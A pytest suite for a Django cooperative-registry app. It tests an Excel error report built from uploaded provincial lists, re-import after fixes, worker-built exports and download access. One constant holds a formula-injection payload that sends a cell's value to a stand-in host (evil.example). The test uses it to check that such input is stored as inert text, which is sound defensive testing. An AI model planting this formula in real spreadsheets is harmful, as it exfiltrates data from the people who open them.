"""The error report of an upload: the file's own rows as read, with a column saying what is wrong
on each, that staff fix in Excel and upload again."""

import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from coop_tracker.lib.exports import workbook_bytes
from cooperatives.models import Export, Organisation, RegistryImport, YearlyFigures
from cooperatives.services import registry_import_errors_build
from tests.cooperatives.test_registry_import_mapping import CAPITAL, MISTAKES, VALID, provincial_list
from tests.factories import columns_seen, logged_in

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&B6,"Xem")'


def uploaded(client, data, name="phu-tho-2025.xlsx", **changes):
    client.post(reverse("registry_import"), {"file": SimpleUploadedFile(name, data)})
    upload = RegistryImport.objects.order_by("-pk")[0]
    columns_seen(client, upload, **changes)
    upload.refresh_from_db()
    return upload


def report_of(client, upload):
    response = client.get(reverse("registry_import_errors", args=[upload.pk]))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "bao-cao-loi.xlsx" in response["Content-Disposition"]
    return load_workbook(io.BytesIO(response.content))


def mistaken():
    formula_row = [*MISTAKES[0][:2], FORMULA, *MISTAKES[0][3:]]  # a name that a spreadsheet would run
    # Written as text (openpyxl's own append would store a formula): as a name typed in a cell.
    return provincial_list(VALID + [formula_row, MISTAKES[1]], build=lambda rows: workbook_bytes("DS", rows))


def test_the_report_holds_the_files_rows_where_they_were_with_what_is_wrong_on_each(client):
    staff = logged_in(client, "canbo.phutho")
    upload = uploaded(staff, mistaken(), **{CAPITAL: "charter_capital"})
    assert upload.status == "invalid"
    page = staff.get(upload.get_absolute_url()).content.decode()
    assert reverse("registry_import_errors", args=[upload.pk]) in page
    book = report_of(staff, upload)
    sheet = book.worksheets[0]
    assert sheet["A1"].value == "UBND TỈNH PHÚ THỌ" and sheet["A2"].value == "DANH SÁCH HỢP TÁC XÃ TỈNH PHÚ THỌ"
    assert [cell.value for cell in sheet[4]][:3] == ["STT", "Mã số thuế", "Tên HTX"]
    assert sheet["L4"].value == "Lỗi cần sửa"
    assert sheet["B6"].value == 2509910001 and sheet["F7"].value == "Thôn Đồng Bến, xã Kim Bôi, huyện Kim Bôi"
    assert [sheet[f"L{row}"].value for row in range(6, 10)] == [None] * 4  # the valid rows: nothing to fix
    assert sheet["L10"].value.startswith("E (Lĩnh vực hoạt động): Không hiểu “Hàng không”")
    assert sheet["L11"].value.startswith("H (Số thành viên năm 2025): “tám” không phải là số")
    assert (sheet["C10"].value, sheet["C10"].data_type) == (FORMULA, "s")  # text, never a formula
    assert (sheet["B13"].value, sheet["C15"].value) == ("Tổng cộng", "Người lập biểu")  # the footer too
    errors = list(book.worksheets[1].iter_rows(values_only=True))
    assert errors[0] == ("Dòng", "Cột", "Lý do") and [row[:2] for row in errors[1:]] == [
        (10, "E (Lĩnh vực hoạt động)"),
        (11, "H (Số thành viên năm 2025)"),
    ]


def test_the_report_fixed_in_excel_imports_with_the_columns_read_as_before(client):
    staff = logged_in(client, "canbo.phutho")
    first = uploaded(staff, mistaken(), **{CAPITAL: "charter_capital"})
    book = report_of(staff, first)
    sheet = book.worksheets[0]
    sheet["E10"], sheet["C10"], sheet["H11"] = "Chăn nuôi", "HTX Bay Lượn", 8  # what staff fix
    fixed = io.BytesIO()
    book.save(fixed)

    again = uploaded(staff, fixed.getvalue(), name="phu-tho-2025-da-sua.xlsx")  # the columns as proposed
    assert again.mapping == {"von gop trieu dong": "charter_capital"}  # remembered: same headers
    assert again.status == "checked", again.errors
    staff.post(reverse("registry_import_commit", args=[again.pk]))
    again.refresh_from_db()
    assert again.status == "committed"
    codes = Organisation.objects.filter(registration_code__startswith="250991").values_list("registration_code")
    assert {code for (code,) in codes} == {str(row[1]) for row in VALID + MISTAKES}
    fixed_row = YearlyFigures.objects.get(organisation__registration_code="2509910006")
    assert (fixed_row.year, fixed_row.members, fixed_row.charter_capital) == (2025, 8, Decimal(50_000_000))
    assert Organisation.objects.get(registration_code="2509910005").sector == "agriculture"


def test_after_the_valid_rows_are_imported_the_report_lists_the_rows_left_out(client):
    staff = logged_in(client, "canbo.phutho")
    upload = uploaded(staff, provincial_list(VALID + MISTAKES))
    staff.post(reverse("registry_import_commit", args=[upload.pk]), {"rows": "valid"})
    upload.refresh_from_db()
    assert upload.status == "committed"
    sheet = report_of(staff, upload).worksheets[0]
    wrong = [row for row in range(6, 12) if sheet[f"L{row}"].value]
    assert wrong == [10, 11]


def test_no_report_once_nothing_is_left_to_report(client):
    staff = logged_in(client, "canbo.phutho")
    upload = uploaded(staff, provincial_list(VALID + MISTAKES))
    staff.post(reverse("registry_import_cancel", args=[upload.pk]))
    response = staff.get(reverse("registry_import_errors", args=[upload.pk]), follow=True)
    assert "Không còn báo cáo lỗi cho tệp này" in response.content.decode()
    clean = uploaded(staff, provincial_list(VALID))
    assert staff.get(reverse("registry_import_errors", args=[clean.pk]))["Location"] == clean.get_absolute_url()


def test_a_split_commune_not_yet_chosen_is_left_out_of_the_valid_rows_with_its_question_in_the_report(client):
    from tests.cooperatives.test_registry_import_questions import HEADER, ROWS
    from tests.factories import xls_bytes

    staff = logged_in(client, "canbo.phutho")
    upload = uploaded(staff, xls_bytes([HEADER, *ROWS]), name="da-bac.xls")
    assert upload.can_import_valid_rows and upload.valid_rows == 1
    staff.post(reverse("registry_import_commit", args=[upload.pk]), {"rows": "valid"})
    assert set(
        Organisation.objects.filter(registration_code__startswith="25098003").values_list("name", flat=True)
    ) == {"HTX Tân Minh"}
    sheet = report_of(staff, RegistryImport.objects.get(pk=upload.pk)).worksheets[0]
    assert sheet["H1"].value == "Lỗi cần sửa" and sheet["H2"].value is None
    assert sheet["H3"].value.startswith("F (Xã): ") and "Xã Tiền Phong" in sheet["H3"].value  # a candidate


def test_the_report_of_a_large_file_is_written_by_a_worker_and_downloaded_by_its_owner(client, settings):
    """Reading and checking a large file again takes longer than a request should: the report's
    link makes an export, which the worker writes (called here as the task calls it)."""
    staff = logged_in(client, "canbo.phutho")
    upload = uploaded(staff, mistaken(), **{CAPITAL: "charter_capital"})
    settings.EXPORT_INLINE_ROWS = upload.rows_total - 1
    response = staff.get(reverse("registry_import_errors", args=[upload.pk]))
    export = Export.objects.get(kind=Export.Kind.IMPORT_ERRORS)
    assert response["Location"] == export.get_absolute_url()
    assert (export.created_by.username, export.status, export.file_name) == (
        "canbo.phutho",
        "queued",
        "phu-tho-2025-bao-cao-loi.xlsx",
    )
    again = staff.get(reverse("registry_import_errors", args=[upload.pk]))  # followed again meanwhile
    assert again["Location"] == export.get_absolute_url() and Export.objects.count() == 1
    registry_import_errors_build(export_id=export.pk)
    export.refresh_from_db()
    assert export.status == "done", export.message
    download = staff.get(reverse("export_download", args=[export.pk]))
    sheet = load_workbook(io.BytesIO(b"".join(download.streaming_content))).worksheets[0]
    assert sheet["L10"].value.startswith("E (Lĩnh vực hoạt động): Không hiểu “Hàng không”")
    assert logged_in(client, "canbo.bacninh").get(reverse("export_download", args=[export.pk])).status_code == 404


def test_a_large_files_report_fails_plainly_once_its_content_is_gone(client, settings):
    staff = logged_in(client, "canbo.phutho")
    upload = uploaded(staff, mistaken(), **{CAPITAL: "charter_capital"})
    settings.EXPORT_INLINE_ROWS = 0
    staff.get(reverse("registry_import_errors", args=[upload.pk]))
    RegistryImport.objects.filter(pk=upload.pk).update(content=b"")
    export = Export.objects.get(kind=Export.Kind.IMPORT_ERRORS)
    registry_import_errors_build(export_id=export.pk)
    export.refresh_from_db()
    assert export.status == "failed" and "hãy tải tệp lên lại" in export.message
